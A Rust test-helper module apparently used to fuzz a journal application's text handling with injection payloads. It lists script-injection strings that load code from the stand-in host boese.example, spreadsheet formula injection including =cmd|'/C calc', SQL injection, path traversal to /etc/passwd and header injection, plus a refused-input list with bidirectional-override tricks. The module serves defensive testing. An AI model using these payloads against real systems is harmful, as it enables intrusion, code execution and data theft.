//! Texts that want to be more than texts: what the book keeps as it came, and what it refuses.

use super::markup::MARK;
use titelbuch::core::journal::hash::sha256;

/// What the book keeps. `§` is the mark, another one for each place, so that it is seen what became a name of a thing.
const ATTACKS: [&str; 54] = [
    "<script>alert('§')</script>",
    "<ScRiPt src=//boese.example/§.js></sCrIpT>",
    "<img src=x onerror=§>",
    "<img src=\"x\" onerror=\"§()\">",
    "<svg onload=§>",
    "<svg/onload=§//",
    "<svg><script>§</script></svg>",
    "<math><mi xlink:href=\"javascript:§\">x</mi></math>",
    "\" onmouseover=\"§\" x=\"",
    "' onmouseover='§' x='",
    "` onmouseover=`§` x=`",
    "\"><§ onload=§>",
    "'><§>",
    "</title><§>",
    "</textarea><§>",
    "</option></select><§>",
    "</style><style>@import '//boese.example/§'",
    "<!-- § ",
    "--><§>",
    "]]><§>",
    "<![CDATA[§]]>",
    "<?§ ?>",
    "<iframe srcdoc=\"<script>§</script>\">",
    "<a href=\"javascript:§\">hier</a>",
    "javascript:§",
    "data:text/html,<script>§</script>",
    "//boese.example/§",
    "https://boese.example/§",
    "<base href=//boese.example/§>",
    "<meta http-equiv=refresh content=0;url=//boese.example/§>",
    "<form action=//boese.example/§><button>",
    "&lt;§&gt; &amp; &#60;§&#62; &#x3c;§ &quot;",
    "{{7*7}} {% raw %}§",
    "${7*7} #{7*7} <%= 7*7 %> §",
    "{count} {id} {text} {title} {field} {0} §",
    "{ $text } { -brand } §",
    "=cmd|'/C calc'!A0 §",
    "+1+1 §",
    "-1+1 §",
    "@SUM(1+1) §",
    "=HYPERLINK(\"http://boese.example/§\";\"hier\")",
    "\u{a0}=1+1 §",
    "＝1+1 §",
    "'=1+1 §",
    "a;=1+1;\"§\",=1+1,",
    "'; DROP TABLE journal; -- §",
    "\" OR 1=1 -- §",
    "%s%n%d %00 %0d%0aSet-Cookie:§=1",
    "../../../etc/passwd §",
    "..%2f..%5c§",
    "§\\u003cscript\\u003e\\x3c\\",
    "zero\u{200b}width\u{200d}§\u{feff}",
    "§\u{2028}§\u{2029}§",
    "＜script＞§＜/script＞",
];

/// Out of whatever place a page has for a text, behind any of the others.
const BREAK_OUT: &str = "\"'><§ §=§></textarea></title></select><script>§</script><!--";

/// As long as a text may be.
const LONGEST: usize = 300;

/// What is no usable text, with the reason that is given.
pub const REFUSED: [(&str, &str); 17] = [
    ("", "leer"),
    ("   ", "leer"),
    ("\u{a0}\u{2003}", "leer"),
    ("\u{200b}\u{feff}", "leer"),
    ("nichts\u{0}", "Steuerzeichen"),
    ("eine\tSpalte", "Steuerzeichen"),
    ("eine\nZeile", "Steuerzeichen"),
    ("eine\r\nZeile", "Steuerzeichen"),
    ("\u{1b}[31mrot", "Steuerzeichen"),
    ("weg\u{7f}", "Steuerzeichen"),
    ("Zeile\u{85}", "Steuerzeichen"),
    ("\u{9b}1m", "Steuerzeichen"),
    ("Rechnung \u{202e}gpj.exe", "Steuerzeichen"),
    ("Summe \u{2066}1", "Steuerzeichen"),
    ("\u{200f}links", "Steuerzeichen"),
    ("\u{202b}links", "Steuerzeichen"),
    ("Mu\u{308}nchen", "NFC"),
];

/// The mark of a place.
fn mark(place: &str) -> (String, usize) {
    let hash = sha256(place.as_bytes()).to_string();
    let number = usize::from_str_radix(&hash[8..14], 16).expect("hexadecimal digits");
    (format!("{MARK}{}", &hash[..8]), number)
}

/// An attack in the place of a text, and behind it one that fits everywhere; the same text is always the same attack.
pub fn instead_of(text: &str) -> String {
    let (mark, number) = mark(text);
    format!("{}{BREAK_OUT}", ATTACKS[number % ATTACKS.len()]).replace('§', &mark)
}

/// Each attack alone, and one word as long as a text may be.
pub fn each() -> Vec<String> {
    let marked = ATTACKS.iter().enumerate().map(|(number, attack)| attack.replace('§', &mark(&number.to_string()).0));
    marked.chain([format!("{MARK}{}", "W".repeat(LONGEST - MARK.len()))]).collect()
}

/// More than a text may be.
pub fn too_long() -> String {
    "W".repeat(LONGEST + 1)
}

#[test]
fn attacks_are_texts_that_the_book_keeps() {
    for attack in each() {
        let spoiled = instead_of(&attack);
        assert!(attack.contains(MARK) && spoiled.matches(MARK).count() > 4, "{attack}");
        assert!(spoiled.chars().count() <= LONGEST && !attack.chars().any(char::is_control), "{attack}");
    }
}
